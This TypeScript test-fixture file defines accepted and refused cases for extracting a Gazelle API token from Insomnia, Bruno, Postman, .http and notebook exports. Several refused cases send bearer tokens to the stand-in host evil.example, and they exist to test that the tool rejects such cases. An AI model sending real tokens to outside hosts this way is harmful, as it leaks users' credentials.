import { type Case, refused, taken, values } from './case.ts'

const graphqlText = 'https://gazelleapp.io/graphql/private/'
const evilText = 'https://evil.example/graphql/private/'
const { TOKEN, REFRESH, KEY } = values
const ofKey = { accessToken: KEY, headerKind: 'api-key' } as const
const elsewhere = (form: 'export' | 'header-line' | 'variable') =>
  ({ reason: 'other-host', form, host: 'evil.example' }) as const
const unknownHost = { reason: 'unknown-host', form: 'export' } as const

const insomnia = (...requests: readonly string[]) =>
  `type: collection.insomnia.rest/5.0\nname: Gazelle\nmeta:\n  id: wrk_1\ncollection:\n${requests.join('\n')}\ncookieJar:\n  name: Default Jar\n`
const insomniaRequest = (url: string, lines: readonly string[]) =>
  [
    `  - url: ${url}`,
    '    name: clients',
    '    meta:',
    '      id: req_1',
    '    method: POST',
    ...lines.map((line) => `    ${line}`),
  ].join('\n')
const insomniaHeader = (token: string) => [
  'headers:',
  '  - name: Accept',
  '    value: "*/*"',
  '  - name: Authorization',
  `    value: Bearer ${token}`,
]
const bru = (url: string, ...blocks: readonly string[]) =>
  [
    `meta {\n  name: clients\n  type: graphql\n  seq: 1\n}`,
    `post {\n  url: ${url}\n  body: graphql\n  auth: bearer\n}`,
    ...blocks,
  ].join('\n\n')
const postman = (request: object, more: object = {}) =>
  JSON.stringify({
    info: { name: 'Gazelle', schema: 'https://schema.getpostman.com/json/collection/v2.1.0/collection.json' },
    item: [{ name: 'a', request }],
    ...more,
  })

/** The files of programs that send requests. */
export const clients: readonly Case[] = [
  taken('Insomnia 5', 'export', insomnia(insomniaRequest(graphqlText, insomniaHeader(TOKEN)))),
  taken(
    'Insomnia 5, its own sign-in',
    'export',
    insomnia(insomniaRequest(graphqlText, ['authentication:', '  type: bearer', '  token: {{TOKEN}}'])),
  ),
  taken(
    'Insomnia 5, two requests',
    'export',
    insomnia(insomniaRequest(evilText, insomniaHeader(REFRESH)), insomniaRequest(graphqlText, insomniaHeader(TOKEN))),
  ),
  taken(
    'Insomnia 5, a body with an address',
    'export',
    insomnia(
      insomniaRequest(graphqlText, [
        'body:',
        '  mimeType: application/json',
        '  text: |-',
        `    {"a": "${evilText}"}`,
        ...insomniaHeader(TOKEN),
      ]),
    ),
  ),
  taken(
    'Insomnia 5, in quotation marks',
    'export',
    insomnia(
      insomniaRequest(`"${graphqlText}"`, ['headers:', "  - name: 'x-gazelle-api-key'", '    value: "{{KEY}}"']),
    ),
    ofKey,
  ),
  refused('Insomnia 5, elsewhere', elsewhere('export'), insomnia(insomniaRequest(evilText, insomniaHeader(TOKEN)))),
  refused(
    'Insomnia 5, a variable',
    { reason: 'placeholder', form: 'export' },
    insomnia(insomniaRequest(graphqlText, insomniaHeader('{{ _.token }}'))),
  ),
  refused(
    'Insomnia 5, switched off',
    { reason: 'no-token-in-request', form: 'export' },
    insomnia(insomniaRequest(graphqlText, [...insomniaHeader(TOKEN), '    disabled: true'])),
  ),
  refused(
    'Insomnia 5, an address by a variable',
    unknownHost,
    insomnia(insomniaRequest('"{{ _.base }}/graphql"', insomniaHeader(TOKEN))),
  ),
  taken('Bruno, headers', 'export', bru(graphqlText, 'headers {\n  accept: */*\n  Authorization: Bearer {{TOKEN}}\n}')),
  taken('Bruno, its own sign-in', 'export', bru(graphqlText, 'auth:bearer {\n  token: {{TOKEN}}\n}')),
  taken('Bruno, an API key', 'export', bru(graphqlText, 'headers {\n  x-gazelle-api-key: {{KEY}}\n}'), ofKey),
  taken(
    'Bruno, a body with an address',
    'export',
    bru(graphqlText, `auth:bearer {\n  token: {{TOKEN}}\n}`, `body:json {\n  {\n    "a": "${evilText}"\n  }\n}`),
  ),
  taken(
    'Bruno, a header switched off',
    'export',
    bru(graphqlText, 'headers {\n  ~Authorization: Bearer {{REFRESH}}\n  Authorization: Bearer {{TOKEN}}\n}'),
  ),
  refused(
    'Bruno, only one switched off',
    { reason: 'no-token-in-request', form: 'export' },
    bru(graphqlText, 'headers {\n  ~Authorization: Bearer {{TOKEN}}\n}'),
  ),
  refused('Bruno, elsewhere', elsewhere('export'), bru(evilText, 'auth:bearer {\n  token: {{TOKEN}}\n}')),
  refused(
    'Bruno, a variable',
    { reason: 'placeholder', form: 'export' },
    bru(graphqlText, 'auth:bearer {\n  token: {{token}}\n}'),
  ),
  refused(
    'Bruno, an address by a variable',
    unknownHost,
    bru('{{host}}/graphql', 'auth:bearer {\n  token: {{TOKEN}}\n}'),
  ),
  taken(
    'Postman, an address as text',
    'export',
    postman({ header: [{ key: 'Authorization', value: `Bearer ${TOKEN}` }], url: graphqlText }),
  ),
  taken(
    'Postman, a folder’s sign-in',
    'export',
    postman(
      { method: 'POST', header: [], url: { raw: graphqlText } },
      { auth: { type: 'bearer', bearer: [{ key: 'token', value: TOKEN }] } },
    ),
  ),
  taken(
    'Postman, an API key',
    'export',
    postman({
      auth: {
        type: 'apikey',
        apikey: [
          { key: 'key', value: 'x-gazelle-api-key' },
          { key: 'value', value: KEY },
        ],
      },
      header: [],
      url: { raw: graphqlText },
    }),
    ofKey,
  ),
  taken(
    'Postman, variables of the collection',
    'export',
    postman(
      { header: [{ key: 'Authorization', value: 'Bearer {{token}}' }], url: { raw: '{{base}}/graphql/private/' } },
      {
        variable: [
          { key: 'token', value: TOKEN },
          { key: 'base', value: 'https://gazelleapp.io' },
        ],
      },
    ),
  ),
  taken(
    'Postman, headers as text',
    'export',
    postman({ header: `Accept: */*\nAuthorization: Bearer ${TOKEN}`, url: { raw: graphqlText } }),
  ),
  refused(
    'Postman, a folder’s sign-in, elsewhere',
    elsewhere('export'),
    postman(
      { method: 'POST', header: [], url: { raw: evilText } },
      { auth: { type: 'bearer', bearer: [{ key: 'token', value: TOKEN }] } },
    ),
  ),
  refused(
    'Postman, variables, elsewhere',
    elsewhere('export'),
    postman(
      { header: [{ key: 'Authorization', value: 'Bearer {{token}}' }], url: { raw: '{{base}}/graphql/private/' } },
      {
        variable: [
          { key: 'token', value: TOKEN },
          { key: 'base', value: 'https://evil.example' },
        ],
      },
    ),
  ),
  taken(
    '.http',
    'header-line',
    `POST ${graphqlText} HTTP/1.1\nContent-Type: application/json\nAuthorization: Bearer {{TOKEN}}\n\n{"query": "{ a }"}`,
  ),
  taken(
    '.http, two requests',
    'header-line',
    `### one\nGET ${evilText}\nAuthorization: Bearer {{REFRESH}}\n\n###\n# @name clients\nPOST ${graphqlText}\nAuthorization: Bearer {{TOKEN}}\n`,
  ),
  taken(
    '.http, a body with an address',
    'header-line',
    `POST ${graphqlText}\nAuthorization: Bearer {{TOKEN}}\n\n{"a": "${evilText}"}`,
  ),
  taken(
    '.http, variables',
    'header-line',
    `@host = https://gazelleapp.io\n@token = {{TOKEN}}\n\nPOST {{host}}/graphql/private/\nAuthorization: Bearer {{token}}`,
  ),
  taken('.http, an address alone', 'header-line', `${graphqlText}\nx-gazelle-api-key: {{KEY}}`, ofKey),
  taken(
    '.http, a query over lines',
    'header-line',
    `GET ${graphqlText}\n    ?a=1\n    &b=2\nAuthorization: Bearer {{TOKEN}}`,
  ),
  refused('.http, elsewhere', elsewhere('header-line'), `POST ${evilText}\nAuthorization: Bearer {{TOKEN}}`),
  refused(
    '.http, variables, elsewhere',
    elsewhere('header-line'),
    `@host = https://evil.example\n@token = {{TOKEN}}\n\nPOST {{host}}/graphql/private/\nAuthorization: Bearer {{token}}`,
  ),
  refused(
    '.http, a variable of elsewhere',
    { reason: 'placeholder', form: 'header-line' },
    `POST ${graphqlText}\nAuthorization: Bearer {{$dotenv TOKEN}}`,
  ),
  refused(
    '.http, a header commented out',
    { reason: 'no-token-in-request', form: 'header-line' },
    `POST ${graphqlText}\n# Authorization: Bearer {{$dotenv TOKEN}}\nAccept: */*`,
  ),
]

const cell = (source: unknown, outputs: readonly object[] = []) => ({
  cell_type: 'code',
  execution_count: 1,
  metadata: {},
  source,
  outputs,
})
const notebook = (...cells: readonly object[]) =>
  JSON.stringify({ cells, metadata: { kernelspec: { name: 'python3' } }, nbformat: 4, nbformat_minor: 5 }, null, 1)

/** Notebooks, whole and by cells. */
export const notebooks: readonly Case[] = [
  taken('a notebook', 'variable', notebook(cell(['import os\n', 'GAZELLE_TOKEN = "{{TOKEN}}"\n', 'print(1)']))),
  taken('a cell', 'variable', JSON.stringify(cell(['token = "{{TOKEN}}"']))),
  taken('a cell, its source as one text', 'variable', JSON.stringify(cell('gazelle_token = "{{TOKEN}}"'))),
  taken('a list of cells', 'variable', JSON.stringify([cell('a = 1'), cell('token = "{{TOKEN}}"')])),
  taken(
    'a cell that sends',
    'code',
    JSON.stringify(
      cell(['import requests\n', `requests.post("${graphqlText}", headers={"Authorization": "Bearer {{TOKEN}}"})`]),
    ),
  ),
  taken(
    'a cell of the shell',
    'curl-bash',
    JSON.stringify(cell([`!curl '${graphqlText}' -H 'Authorization: Bearer {{TOKEN}}'`])),
  ),
  taken(
    'what a cell gave',
    'row',
    JSON.stringify(
      cell(
        ['row'],
        [
          {
            output_type: 'execute_result',
            data: { 'text/plain': [`{'access_token': '{{TOKEN}}',\n`, ` 'refresh_token': '{{REFRESH}}'}`] },
          },
        ],
      ),
    ),
    { refreshToken: REFRESH },
  ),
  taken(
    'what a cell printed',
    'row',
    JSON.stringify(
      cell(['print(row)'], [{ output_type: 'stream', name: 'stdout', text: [`{'access_token': '{{TOKEN}}'}\n`] }]),
    ),
  ),
  taken('a dictionary', 'row', JSON.stringify(cell(['row = {\n', '  "access_token": "{{TOKEN}}",\n', '}\n']))),
  refused(
    'a cell that sends elsewhere',
    { reason: 'other-host', form: 'code', host: 'evil.example' },
    JSON.stringify(cell(`requests.post("${evilText}", headers={"Authorization": "Bearer {{TOKEN}}"})`)),
  ),
  refused(
    'two cells, two tokens',
    { reason: 'several-tokens', form: 'variable' },
    notebook(cell('token = "{{TOKEN}}"'), cell('access_token = "{{REFRESH}}"')),
  ),
  refused('a cell without one', { reason: 'unknown-form' }, JSON.stringify(cell('print(1)'))),
]
